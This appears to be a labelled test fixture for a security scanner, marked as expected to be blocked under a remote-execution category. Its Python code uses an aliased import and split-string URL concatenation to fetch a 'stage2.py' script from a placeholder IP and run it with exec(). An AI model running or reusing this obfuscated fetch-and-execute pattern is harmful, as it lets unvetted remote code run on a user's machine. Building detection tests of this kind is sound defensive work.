# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/requests_exec.py technique: alias+concat
import requests as _m0
source = _m0.get('https://2' + '03.0.113.' + '4/stage2.' + 'py', timeout=10).text
exec(source)
